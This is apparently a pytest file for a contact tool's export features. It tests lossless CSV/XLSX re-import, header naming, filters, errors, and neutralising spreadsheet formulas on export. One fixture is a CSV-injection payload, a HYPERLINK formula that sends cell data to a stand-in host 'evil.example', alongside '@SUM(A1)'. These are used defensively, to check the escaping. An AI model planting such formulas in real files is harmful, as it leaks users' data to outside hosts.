"""Exports: CSV re-imports losslessly (tags, topics, attributes, status), JSON, XLSX, filters."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
from clock_support import FakeClock

from outreach.contacts.export import export_contacts, header_for_attribute
from outreach.contacts.importing.importer import ImportOptions, import_files
from outreach.contacts.model import ContactFilter, clean_fields, get_contact, insert_contact, iter_contacts, set_status
from outreach.db.schema import Database, open_database
from outreach.errors import InputError
from outreach.models import ContactStatus


def seed(db: Database, clock: FakeClock) -> None:
    people = [
        ("m.zolkiewska@urzad.example.org", {"name": "Małgorzata Żółkiewska", "organisation": "Urząd „Gdańsk”, Biuro",
                                           "role": "specjalistka", "kind": "authority", "country": "PL",
                                           "tags": ["bsi", "wave-1"], "topics": ["reserved-contracts"],
                                           "attributes": {"Telefon": "+48 58 000", "Source": "registry",
                                                          "Notes": "=1+1", "Region": "Pomorskie"},
                                           "consent_basis": "legitimate_interest", "consent_source": "workshop",
                                           "consent_at": "2025-03-01"}),
        ("g.papadopoulos@dimos.example.org", {"name": "Γιώργος Παπαδόπουλος", "organisation": "Δήμος Αθηναίων",
                                              "kind": "authority", "country": "GR", "tags": ["bsi"]}),
        ("janis@riga.example.org", {"name": "Jānis Bērziņš", "kind": "supplier", "country": "LV",
                                    "language": "en", "attributes": {"Tālrunis": "+371 000"}}),
        ("quote@x.example.org", {"name": 'Anna "Ania" Nowak; Jr.', "country": "BE"}),
    ]
    for email, fields in people:
        insert_contact(db, clock, email, clean_fields(fields))
    set_status(db, clock, get_contact(db, "janis@riga.example.org"), ContactStatus.UNSUBSCRIBED)


def snapshot(db: Database) -> list[dict]:
    return [{k: v for k, v in c.public_dict().items() if k not in ("created_at", "updated_at")}
            for c in iter_contacts(db)]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_reimports_losslessly(tmp_path: Path, db: Database, clock: FakeClock, fmt: str) -> None:
    seed(db, clock)
    path = tmp_path / f"out.{fmt}"
    assert export_contacts(db, None, fmt, path) == 4
    fresh = open_database(tmp_path / "fresh.db")
    report = import_files(fresh, clock, [path], ImportOptions())
    assert (report.added, report.invalid) == (4, [])
    assert snapshot(fresh) == snapshot(db)
    assert get_contact(fresh, "janis@riga.example.org").status == "unsubscribed"
    from outreach.contacts.model import is_suppressed

    assert is_suppressed(fresh, "janis@riga.example.org")  # and it stays out of every later import
    fresh.close()


def test_csv_export_shape(tmp_path: Path, db: Database, clock: FakeClock) -> None:
    seed(db, clock)
    path = tmp_path / "out.csv"
    export_contacts(db, ContactFilter.parse(countries=["PL"]), "csv", path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel opens UTF-8 only with the BOM
    header = raw.decode("utf-8-sig").splitlines()[0].split(",")
    assert header[:3] == ["email", "name", "organisation"]
    assert {"Telefon", "attribute:Source", "Notes", "Region"} <= set(header)
    assert "Małgorzata Żółkiewska" in raw.decode("utf-8-sig") and "Γιώργος" not in raw.decode("utf-8-sig")


def test_attribute_headers_that_would_read_as_fields_are_prefixed() -> None:
    assert header_for_attribute("Source") == "attribute:Source"
    assert header_for_attribute("Kraj") == "attribute:Kraj"
    assert header_for_attribute("created_at") == "attribute:created_at"
    assert header_for_attribute("Telefon") == "Telefon"


def test_json_export_matches_list(tmp_path: Path, db: Database, clock: FakeClock, runner) -> None:
    seed(db, clock)
    path = tmp_path / "out.json"
    result = runner("contacts", "export", "-o", str(path))
    assert result.exit_code == 0 and "Exported 4" in result.output
    listed = json.loads(runner("contacts", "list", "--json").stdout)
    assert json.loads(path.read_text(encoding="utf-8")) == listed
    stdout = runner("contacts", "export", "--format", "json", "--kind", "supplier")
    assert [c["email"] for c in json.loads(stdout.stdout)] == ["janis@riga.example.org"]


def test_xlsx_keeps_formula_like_text(tmp_path: Path, db: Database, clock: FakeClock) -> None:
    from openpyxl import load_workbook

    seed(db, clock)
    path = tmp_path / "out.xlsx"
    export_contacts(db, None, "xlsx", path)
    sheet = load_workbook(path).active
    header = [cell.value for cell in sheet[1]]
    notes = [row[header.index("Notes")].value for row in sheet.iter_rows(min_row=2) if row[0].value.startswith("m.")]
    assert notes == ["=1+1"]


def test_export_errors(tmp_path: Path, db: Database, runner) -> None:
    with pytest.raises(InputError, match="XLSX export needs a file"):
        export_contacts(db, None, "xlsx", io.StringIO())
    result = runner("contacts", "export", "--format", "pdf", "-o", str(tmp_path / "x.pdf"))
    assert result.exit_code == 2 and "pdf" in result.output and "Traceback" not in result.output
    result = runner("contacts", "export", "-o", str(tmp_path / "missing" / "x.csv"))
    assert result.exit_code == 1 and "Cannot write" in result.output
    assert not (tmp_path / "missing").exists()


EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"x")'


def test_csv_export_neutralises_formulas_and_reimports_them(runner, tmp_path: Path, db_path: Path) -> None:
    """Issue 15 item 5: a name entered on the public form never comes out as a live formula for Excel."""
    source = tmp_path / "in.csv"
    source.write_text("Email,Name,Telefon,City\r\n"
                      f'evil@x.example.org,"{EVIL.replace(chr(34), chr(34) * 2)}",+48 22 000,\'s-Hertogenbosch\r\n'
                      "at@x.example.org,@SUM(A1),-5,plain\r\n", encoding="utf-8")
    assert runner("contacts", "import", str(source)).exit_code == 0
    out = tmp_path / "out.csv"
    assert runner("contacts", "export", "-o", str(out)).exit_code == 0
    import csv

    rows = {row["email"]: row for row in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))}
    assert rows["evil@x.example.org"]["name"] == "'" + EVIL
    assert rows["evil@x.example.org"]["Telefon"] == "'+48 22 000"
    assert rows["evil@x.example.org"]["City"] == "'s-Hertogenbosch"  # not a formula start: left alone
    assert rows["at@x.example.org"]["name"] == "'@SUM(A1)" and rows["at@x.example.org"]["Telefon"] == "'-5"
    for row in rows.values():
        assert not any(value[:1] in "=+-@\t\r" for value in row.values() if value)

    # the neutralised file imports back to exactly what was stored
    assert runner("--db", str(tmp_path / "again.db"), "contacts", "import", str(out)).exit_code == 0
    db = open_database(tmp_path / "again.db")
    try:
        evil = get_contact(db, "evil@x.example.org")
        assert evil.name == EVIL and evil.attributes == {"Telefon": "+48 22 000", "City": "'s-Hertogenbosch"}
        assert get_contact(db, "at@x.example.org").attributes["Telefon"] == "-5"
    finally:
        db.close()

    # --raw writes what is stored (for scripts), and that also imports back unchanged
    raw = tmp_path / "raw.csv"
    assert runner("contacts", "export", "-o", str(raw), "--raw").exit_code == 0
    raw_rows = {row["email"]: row for row in csv.DictReader(io.StringIO(raw.read_text(encoding="utf-8-sig")))}
    assert raw_rows["evil@x.example.org"]["name"] == EVIL and raw_rows["at@x.example.org"]["Telefon"] == "-5"
    # XLSX: typed text, no formula, no apostrophe
    from openpyxl import load_workbook

    book = tmp_path / "out.xlsx"
    assert runner("contacts", "export", "-o", str(book)).exit_code == 0
    sheet = load_workbook(book).active
    names = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert names["evil@x.example.org"].value == EVIL and names["evil@x.example.org"].data_type == "s"
